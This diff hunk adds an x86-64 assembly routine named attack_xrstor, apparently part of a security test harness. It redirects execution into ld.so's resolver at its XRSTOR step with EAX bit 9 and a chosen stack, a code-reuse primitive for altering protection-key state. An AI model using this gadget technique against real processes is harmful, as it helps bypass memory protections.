@@ -279,4 +279,24 @@ fn attack_land
 	jmp	*56(%rdi)
 fn_end attack_land
 	.comm	model_loot, 8, 8
+/*
+ * long attack_xrstor(void *at, void *rsp, void *area): as ld.so's resolver where it restores, but with bit 9 of EAX. What
+ * follows the XRSTOR there takes rsp from rbx and goes where r11 says. Gives 1 when it comes back.
+ */
+	.globl attack_xrstor
+	.type attack_xrstor, @function
+attack_xrstor:
+	push	%rbx
+	mov	%rbx, -24(%rsp)
+	lea	-24(%rsp), %rbx
+	lea	1f(%rip), %r11
+	mov	%rsi, %rsp
+	mov	$0x200, %eax
+	xor	%edx, %edx
+	jmp	*%rdi
+1:	pop	%rbx
+	mov	$1, %eax
+	ret
+	.size attack_xrstor, . - attack_xrstor
+
 	.section .note.GNU-stack, "", @progbits
